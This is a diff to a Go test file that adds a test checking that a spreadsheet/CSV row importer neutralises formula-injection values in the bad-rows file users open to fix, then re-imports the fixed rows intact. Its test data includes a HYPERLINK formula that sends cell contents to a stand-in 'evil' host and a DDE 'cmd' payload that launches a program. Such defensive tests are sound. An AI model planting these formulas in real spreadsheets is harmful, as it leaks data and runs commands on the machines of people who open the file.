@@ -2,7 +2,10 @@ package rows
 
 import (
 	"bytes"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"reflect"
 	"slices"
 	"strings"
 	"testing"
@@ -143,6 +146,50 @@ func TestNoBadRowGoesIn(t *testing.T) {
 			t.Fatalf("%d rows became %d, %q, %v of\n%s\nof\n%s", n, again, records, err, second.String(), first.String())
 		}
 	})
+}
+
+// TestBadRowsRunNothing (E05): a text of a workbook that looks like a formula is none there, and is
+// none in the file of bad rows that a person opens to mend, with any delimiter that a spreadsheet
+// program may expect. Mended, it is imported as it was in the workbook.
+func TestBadRowsRunNothing(t *testing.T) {
+	s := schemaOf(t, things, "编号")
+	texts := []string{
+		`=HYPERLINK("http://evil/?"&A2,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "'=1", "'", "-", "-5", "+86 851",
+		"a,=1+1", "a;=1+1", "1e5", "x",
+	}
+	for _, value := range texts {
+		for _, file := range map[string]table.Source{
+			"xlsx": book(t, func(f *excelize.File) {
+				f.SetSheetRow("Sheet1", "A1", &[]any{"编号", "文", "数", nil})
+				f.SetSheetRow("Sheet1", "A2", &[]any{"=1", value, "mend", nil, nil, "=2"})
+			}),
+			"csv": strings.NewReader("编号;文;数\n\"=1\";\"" + strings.ReplaceAll(value, `"`, `""`) + "\";mend\n"),
+		} {
+			_, _, bad := badOfFile(t, file, s, Options{})
+			for _, comma := range ",;\t" {
+				in := csv.NewReader(strings.NewReader(strings.TrimPrefix(bad, "\ufeff")))
+				in.Comma, in.LazyQuotes, in.FieldsPerRecord = comma, true, -1
+				cells, err := in.ReadAll()
+				for _, cell := range slices.Concat(cells...) {
+					if comma == ',' && (err != nil || cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) && !aNumber.MatchString(cell)) {
+						t.Errorf("%q is written as the cell %q, %v", value, cell, err)
+					}
+				}
+			}
+			mended := strings.NewReplacer(",mend,", ",7,", ",'=2", ",").Replace(bad)
+			records, told, _ := badOfFile(t, strings.NewReader(mended), s, Options{})
+			text, _ := json.Marshal(value)
+			if want := `{"数":7,"文":` + string(text) + `,"编号":"=1"}`; !same(records, want) {
+				t.Errorf("%q, mended, is imported as %q, %q of\n%s", value, records, told, mended)
+			}
+		}
+	}
+}
+
+// same reports whether there is one record, equal to the object.
+func same(records []string, object string) bool {
+	var a, b map[string]any
+	return len(records) == 1 && json.Unmarshal([]byte(records[0]), &a) == nil && json.Unmarshal([]byte(object), &b) == nil && reflect.DeepEqual(a, b)
 }
 
 // csvOf writes CSV: quoted as it should be, or not.
